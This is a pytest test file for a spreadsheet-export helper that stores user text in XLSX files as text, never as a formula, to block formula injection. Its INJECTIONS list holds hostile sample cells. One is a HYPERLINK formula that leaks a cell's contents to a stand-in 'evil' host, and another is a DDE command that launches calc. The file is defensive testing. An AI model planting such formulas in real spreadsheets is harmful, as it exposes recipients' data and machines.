"""core.xlsx: user text goes into XLSX as text, never as a formula; other values pass through."""

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell._writer import etree_write_cell, lxml_write_cell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from python_calamine import CalamineWorkbook

from shuzhuan.core.xlsx import append_row, text_cell

INJECTIONS = [
    '=HYPERLINK("http://evil/?"&B3,"x")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=",
    "",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "#N/A",
    "#REF!",
    " =1+1",
    "普通文本",
]


def _save(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def _calamine_rows(data: bytes) -> list[list]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()


def _workbook(write_only: bool):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("导出") if write_only else workbook.active
    return workbook, sheet


@pytest.fixture(params=["lxml", "etree"])
def cell_writer(request, monkeypatch):
    """Both of openpyxl's XML writers (lxml when installed, the standard library's otherwise)."""
    monkeypatch.setattr("openpyxl.worksheet._writer.write_cell",
                        lxml_write_cell if request.param == "lxml" else etree_write_cell)
    return request.param


def test_plain_append_would_write_a_formula():
    """The hazard the helper exists for (if openpyxl ever stops doing this, the helper is still harmless)."""
    workbook, sheet = _workbook(write_only=True)
    sheet.append(['=HYPERLINK("http://x/","y")'])
    assert re.search(r"<f[ >]", _sheet_xml(_save(workbook)))


@pytest.mark.parametrize("write_only", [True, False], ids=["write_only", "normal"])
def test_strings_stay_text(write_only, cell_writer):
    workbook, sheet = _workbook(write_only)
    append_row(sheet, ["表头", *INJECTIONS])
    append_row(sheet, INJECTIONS)
    data = _save(workbook)
    xml = _sheet_xml(data)
    assert "<f" not in xml
    assert re.findall(r'<c r="[A-Z]+\d+"( t="[a-zA-Z]+")?', xml) == [' t="inlineStr"'] * (2 * len(INJECTIONS) + 1)
    rows = _calamine_rows(data)
    assert rows[0] == ["表头", *INJECTIONS]
    assert rows[1][: len(INJECTIONS)] == INJECTIONS
    reread = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [c.value for c in reread[2]][: len(INJECTIONS)] == [v or None for v in INJECTIONS]
    assert all(c.data_type == "s" for c in reread[2] if c.value is not None)


@pytest.mark.parametrize("write_only", [True, False], ids=["write_only", "normal"])
def test_other_values_pass_through(write_only):
    values = [7, 2.5, Decimal("12345678.91"), Decimal("0.10"), dt.date(2024, 5, 8), dt.datetime(2024, 5, 8, 9, 30),
              True, False, None, "=1+1"]
    workbook, sheet = _workbook(write_only)
    append_row(sheet, values)
    data = _save(workbook)
    assert _calamine_rows(data)[0] == [7.0, 2.5, 12345678.91, 0.1, dt.date(2024, 5, 8), dt.datetime(2024, 5, 8, 9, 30),
                                       True, False, "", "=1+1"]
    xml = _sheet_xml(data)
    assert '<c r="C1" t="n"><v>12345678.91</v></c>' in xml  # the Decimal's exact digits, as a number
    assert "<f" not in xml


def test_normal_sheet_keeps_working_after_append():
    """Callers style and format the appended row afterwards (bold headers, money formats)."""
    workbook, sheet = _workbook(write_only=False)
    append_row(sheet, ["=标题", "金额"])
    append_row(sheet, ["=A1", Decimal("9.90")])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    sheet.cell(row=2, column=2).number_format = "#,##0.00"
    assert [c.value for c in sheet[2]] == ["=A1", Decimal("9.90")]
    assert sheet.max_row == 2 and sheet["A2"].data_type == "s"
    reread = load_workbook(io.BytesIO(_save(workbook))).active
    assert reread["A1"].font.bold and reread["A1"].value == "=标题" and reread["A1"].data_type == "s"
    assert reread["B2"].number_format == "#,##0.00" and reread["B2"].value == 9.9


def test_text_cell_and_cells_holding_strings():
    workbook, sheet = _workbook(write_only=True)
    styled = text_cell(sheet, "=SUM(1,2)")
    styled.font = Font(bold=True)
    assert styled.data_type == "s"
    from openpyxl.cell import WriteOnlyCell

    raw = WriteOnlyCell(sheet, value="=1+2")  # a caller's own cell: forced to text as well
    append_row(sheet, [styled, raw, 3])
    data = _save(workbook)
    assert "<f" not in _sheet_xml(data)
    assert _calamine_rows(data)[0] == ["=SUM(1,2)", "=1+2", 3.0]


_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",))).map(lambda s: ILLEGAL_CHARACTERS_RE.sub("", s))
_PREFIX = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "#", "'"])


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(_PREFIX, _TEXT).map("".join), min_size=1, max_size=5))
def test_any_text_round_trips(texts):
    workbook, sheet = _workbook(write_only=True)
    append_row(sheet, ["首", *texts, "尾"])  # calamine trims empty cells at the edges
    data = _save(workbook)
    assert "<f" not in _sheet_xml(data)
    assert _calamine_rows(data)[0] == ["首", *texts, "尾"]


def test_control_characters_are_dropped_not_a_crash():
    import io

    from openpyxl import Workbook
    from python_calamine import CalamineWorkbook

    from shuzhuan.core.xlsx import append_row

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    append_row(ws, ["古镇\x01路\x0b8 号", "=A1\x02"])
    out = io.BytesIO()
    wb.save(out)
    out.seek(0)
    assert CalamineWorkbook.from_filelike(out).get_sheet_by_index(0).to_python() == [["古镇路8 号", "=A1"]]
